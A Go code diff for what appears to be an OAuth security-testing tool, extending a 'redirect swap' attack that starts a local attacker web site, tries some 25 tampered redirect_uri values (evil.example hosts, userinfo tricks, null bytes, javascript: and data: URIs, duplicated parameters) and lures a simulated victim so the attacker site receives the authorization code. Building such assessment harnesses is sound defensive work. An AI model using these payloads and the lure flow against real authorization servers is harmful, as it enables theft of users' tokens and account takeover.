@@ -2,17 +2,28 @@ package attacker
 
 import (
 	"context"
+	"errors"
 	"fmt"
+	"io"
+	"net"
+	"net/http"
 	"net/url"
 	"strings"
 
 	"keyladder/mobileclient/attacker/attack"
+	"keyladder/mobileclient/attacker/network"
 	"keyladder/stages/protect"
 )
 
-// redirectSwap asks the authorization server to send the user, with what it gives, to an address
-// of the attacker's: whoever follows such a link meets the bank's own page. Servers that compare
-// addresses loosely take one of the spellings for the app's (RFC 9700, section 4.1.1).
+// redirectSwap asks the authorization server to send the user, with what it gives, to a web site
+// of the attacker's. Servers that compare addresses loosely take one of the spellings for the
+// app's (RFC 9700, section 4.1.1). If this one does, the attacker lures the victim to follow such
+// a link, which anyone can (RFC 9700, section 3): it leads to the bank's own page.
+//
+// A token that comes that way is good for whoever has it. A code has to be exchanged, which takes
+// the client's secret where clients authenticate. The attack has none: to take one out of an app,
+// or to put the code into the genuine one, needs a device, and that is another position (see
+// code-hijack and code-relay). So there it ends at that check, however redirect URIs are compared.
 //
 //keyladder:code attack-redirect-swap
 func redirectSwap(ctx context.Context, g *attack.Given) (attack.Result, error) {
@@ -25,49 +36,110 @@ func redirectSwap(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	if err != nil {
 		return attack.Result{}, err
 	}
-	spellings := swapped(g.RedirectURI)
+	site, closeSite, err := newSite()
+	if err != nil {
+		return attack.Result{}, err
+	}
+	defer closeSite()
+	spellings, taken := swapped(g.RedirectURI, site), ""
 	for _, uri := range spellings {
-		taken, err := p.Accepted(ctx, strings.Replace(oauth.AuthorizationURL(protect.NewState()),
-			"redirect_uri="+url.QueryEscape(g.RedirectURI), uri, 1))
-		if err != nil {
+		link := strings.Replace(oauth.AuthorizationURL(protect.NewState()), one(g.RedirectURI), uri.query(), 1)
+		accepted, err := p.Accepted(ctx, link)
+		switch {
+		case err != nil:
 			return attack.Result{}, err
-		}
-		if taken {
-			return attack.Result{}, fmt.Errorf("the authorization server takes %s for an address of the app's", uri)
+		case accepted && uri.ours && g.Lured != nil:
+			g.Say("The authorization server takes %s for an address of the app's. Send the victim a link with it, to the bank's own page.", uri.first)
+			return lure(ctx, g, link, uri.first, site)
+		case accepted && taken == "":
+			taken = uri.query()
 		}
 	}
-	g.Say("Asked with %d other addresses, from an evil host to the right one with another ending: the page says each time that it leads nobody there.", len(spellings))
+	if taken != "" {
+		return attack.Result{}, fmt.Errorf("the authorization server takes %s for an address of the app's, and no web site of ours is there", taken)
+	}
+	g.Say("Asked with %d other addresses, from a web site of ours to the right one with another ending: the page says each time that it leads nobody there.", len(spellings))
 	return attack.Result{Obstacle: "the authorization server leads nobody to an address that is not registered, byte for byte"}, nil
 }
 
-// swapped are parameters that could pass for a redirect URI, as they stand in a query.
-func swapped(registered string) []string {
+// lure has the victim follow a link, and uses what they bring to the attacker's web site.
+func lure(ctx context.Context, g *attack.Given, link, redirectURI, site string) (attack.Result, error) {
+	location, err := g.Lured.Follows(ctx, link, site)
+	if err != nil {
+		return attack.Result{}, err
+	}
+	if location == "" {
+		return attack.Result{}, errors.New("the victim was not led to the attacker's web site")
+	}
+	g.Say("The victim has signed in, and was led to our web site.")
+	own := *g
+	own.RedirectURI = redirectURI // it was asked with, so the code is exchanged with it
+	return useResponse(ctx, &own, location)
+}
+
+// newSite starts a web site of the attacker's, and returns its origin.
+func newSite() (origin string, closeSite func(), err error) {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return "", nil, fmt.Errorf("start a web site: %w", err)
+	}
+	server := &http.Server{ReadHeaderTimeout: network.Timeout, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		_, _ = io.WriteString(w, "<!doctype html><title>Thank you</title><p>You have won. We will write to you.")
+	})}
+	done := make(chan error, 1)
+	go func() { done <- server.Serve(listener) }()
+	return "http://" + listener.Addr().String(), func() {
+		_ = server.Close()
+		<-done
+	}, nil
+}
+
+// spelling is what could pass for a redirect URI.
+type spelling struct {
+	first, second string // the parameter; second: it is there twice
+	ours          bool   // it leads to the attacker's web site
+}
+
+func one(uri string) string { return "redirect_uri=" + url.QueryEscape(uri) }
+
+// query is the spelling as it stands in a query.
+func (s spelling) query() string {
+	if s.second == "" {
+		return one(s.first)
+	}
+	return one(s.first) + "&" + one(s.second)
+}
+
+// swapped are the spellings that are tried, with the origin of a web site of the attacker's.
+func swapped(registered, site string) []spelling {
 	scheme, rest, _ := strings.Cut(registered, ":")
-	one := func(uri string) string { return "redirect_uri=" + url.QueryEscape(uri) }
-	return []string{
-		one("https://evil.example/callback"),
-		one("https://evil.example/" + registered),
-		one("https://evil.example/?next=" + registered),
-		one("https://localhost@evil.example/callback"),
-		one("http://127.0.0.1:4444/callback"),
-		one("http://localhost/callback"),
-		one(scheme + ".evil:" + rest),
-		one("evil." + registered),
-		one(strings.ToUpper(registered)),
-		one(scheme + ":/" + rest),
-		one(scheme + "://evil.example" + rest),
-		one(registered + "/"),
-		one(registered + "/../evil"),
-		one(registered + "?next=https://evil.example"),
-		one(registered + "#"),
-		one(registered + "%2F"),
-		one(registered + "\x00"),
-		one(registered + " https://evil.example"),
-		one(" " + registered),
-		one(scheme + ":callback"),
-		one("javascript:alert(1)"),
-		one("data:text/html,evil"),
-		"redirect_uri=" + url.QueryEscape(registered) + "&redirect_uri=" + url.QueryEscape("https://evil.example/callback"),
-		"redirect_uri=" + url.QueryEscape("https://evil.example/callback") + "&redirect_uri=" + url.QueryEscape(registered),
+	host := strings.TrimPrefix(site, "http://")
+	return []spelling{
+		{first: site + "/callback", ours: true},
+		{first: site + "/" + registered, ours: true},
+		{first: site + "/?next=" + registered, ours: true},
+		{first: "http://localhost@" + host + "/callback", ours: true},
+		{first: "https://evil.example/callback"},
+		{first: "http://127.0.0.1:4444/callback"},
+		{first: "http://localhost/callback"},
+		{first: scheme + ".evil:" + rest},
+		{first: "evil." + registered},
+		{first: strings.ToUpper(registered)},
+		{first: scheme + ":/" + rest},
+		{first: scheme + "://evil.example" + rest},
+		{first: registered + "/"},
+		{first: registered + "/../evil"},
+		{first: registered + "?next=https://evil.example"},
+		{first: registered + "#"},
+		{first: registered + "%2F"},
+		{first: registered + "\x00"},
+		{first: registered + " https://evil.example"},
+		{first: " " + registered},
+		{first: scheme + ":callback"},
+		{first: "javascript:alert(1)"},
+		{first: "data:text/html,evil"},
+		{first: registered, second: site + "/callback"},
+		{first: site + "/callback", second: registered},
 	}
 }
